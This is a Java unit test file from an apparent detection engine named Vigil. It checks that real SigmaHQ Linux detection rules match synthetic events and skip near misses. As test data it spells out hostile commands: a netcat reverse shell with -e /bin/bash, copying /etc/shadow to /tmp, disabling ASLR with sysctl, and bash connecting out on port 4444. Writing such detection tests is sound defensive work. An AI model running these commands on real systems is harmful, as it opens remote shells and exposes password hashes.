package io.vigil.detect.vigil;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vigil.common.testing.TestData;
import io.vigil.detect.sigma.compile.CompiledRule;
import io.vigil.detect.sigma.compile.RuleCompiler;
import io.vigil.detect.sigma.compile.SigmaItemCompiler;
import io.vigil.detect.sigma.match.SigmaFields;
import io.vigil.detect.sigma.rule.SigmaRuleLoader;
import io.vigil.proto.v1.Event;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * Real SigmaHQ Linux rules, unmodified, through LogSources and the event adapters: for each, a
 * Vigil event written from the rule text matches and a near miss does not.
 */
class SigmaHqRulesOnVigilEventsTest {

  private static boolean fires(String rulePath, Event event) throws Exception {
    Path file = TestData.require("sigma/rules/linux").resolve(rulePath);
    CompiledRule rule = RuleCompiler.compile(SigmaRuleLoader.load(file), new SigmaItemCompiler());
    LogSourceMapping m = LogSources.map(rule.rule().logsource());
    assertTrue(m.applicable(), rulePath + ": " + m);
    for (SigmaFields view : m.present(event)) {
      if (rule.matches(view)) {
        return true;
      }
    }
    return false;
  }

  private static void check(String rule, Event hit, Event nearMiss) throws Exception {
    assertTrue(fires(rule, hit), rule + " must match " + hit);
    assertFalse(fires(rule, nearMiss), rule + " must not match " + nearMiss);
  }

  @Test
  void base64DecodeProcessCreation() throws Exception {
    check(
        "process_creation/proc_creation_lnx_base64_decode.yml",
        Events.exec("/usr/bin/base64", "base64", "-d", "/tmp/p.b64"),
        Events.exec("/usr/bin/base64", "base64", "/tmp/p"));
  }

  @Test
  void copyingShadowToTmp() throws Exception {
    check(
        "process_creation/proc_creation_lnx_cp_passwd_or_shadow_tmp.yml",
        Events.exec("/usr/bin/cp", "cp", "/etc/shadow", "/tmp/s"),
        Events.exec("/usr/bin/cp", "cp", "/etc/shadow", "/root/backup"));
  }

  @Test
  void netcatReverseShell() throws Exception {
    check(
        "process_creation/proc_creation_lnx_netcat_reverse_shell.yml",
        Events.exec("/usr/bin/nc", "nc", "10.0.0.1", "4444", "-e", "/bin/bash"),
        Events.exec("/usr/bin/nc", "nc", "-l", "4444"));
  }

  @Test
  void bashConnectingOut() throws Exception {
    check(
        "network_connection/net_connection_lnx_back_connect_shell_dev.yml",
        Events.outbound("/usr/bin/bash", "198.51.100.7", 4444),
        Events.outbound("/usr/bin/bash", "127.0.0.1", 4444));
  }

  @Test
  void malwareCallbackPort() throws Exception {
    check(
        "network_connection/net_connection_lnx_susp_malware_callback_port.yml",
        Events.outbound("/tmp/x", "198.51.100.7", 4444),
        Events.outbound("/tmp/x", "192.168.1.7", 4444));
  }

  @Test
  void auditdExecveScreenCaptureWithXwd() throws Exception {
    check(
        "auditd/execve/lnx_auditd_screencaputre_xwd.yml",
        Events.exec("/usr/bin/xwd", "xwd", "-root", "-out", "/tmp/s.xwd"),
        Events.exec("/usr/bin/xwd", "xwd", "-root", "-out", "/tmp/s.png"));
  }

  @Test
  void auditdDisableAslrWithSysctl() throws Exception {
    check(
        "auditd/lnx_auditd_disable_aslr_protection.yml",
        Events.exec("/usr/sbin/sysctl", "sysctl", "-w", "kernel.randomize_va_space=0"),
        Events.exec("/usr/sbin/sysctl", "sysctl", "-w", "kernel.randomize_va_space=2"));
  }

  @Test
  void auditdSystemInfoDiscovery() throws Exception {
    check(
        "auditd/lnx_auditd_system_info_discovery.yml",
        Events.exec("/usr/bin/uname", "uname", "-a"),
        Events.exec("/usr/bin/grep", "grep", "-i", "root", "/etc/passwd"));
  }

  @Test
  void auditdWebServerUserExecutes() throws Exception {
    Event asWww = Events.execAs("www-data", "/bin/sh", "sh", "-c", "id");
    asWww =
        asWww.toBuilder().setProcessExec(asWww.getProcessExec().toBuilder().setEuid(33)).build();
    check(
        "auditd/syscall/lnx_auditd_web_rce.yml",
        asWww,
        Events.execAs("www-data", "/bin/sh", "sh", "-c", "id"));
  }

  @Test
  void countsSigmaHqLinuxRulesByLogSourceMapping() throws Exception {
    Path root = TestData.require("sigma/rules/linux");
    List<Path> files;
    try (Stream<Path> walk = Files.walk(root)) {
      files = walk.filter(p -> p.toString().endsWith(".yml")).sorted().toList();
    }
    Map<String, Integer> byReason = new TreeMap<>();
    int applicable = 0;
    for (Path f : files) {
      LogSourceMapping m = LogSources.map(SigmaRuleLoader.load(f).logsource());
      applicable += m.applicable() ? 1 : 0;
      byReason.merge((m.applicable() ? "runs on " : "skipped: ") + m.reason(), 1, Integer::sum);
    }
    System.out.println(
        "SigmaHQ linux rules: " + applicable + " of " + files.size() + " have a Vigil log source");
    byReason.forEach((reason, n) -> System.out.println("  " + n + "  " + reason));
    // process_creation, file_event, network_connection and auditd are served; only the services
    // Vigil does not read (syslog, sshd, cron, ...) and product-less keyword rules are left.
    assertTrue(applicable >= 188, applicable + " applicable of " + files.size());
  }
}
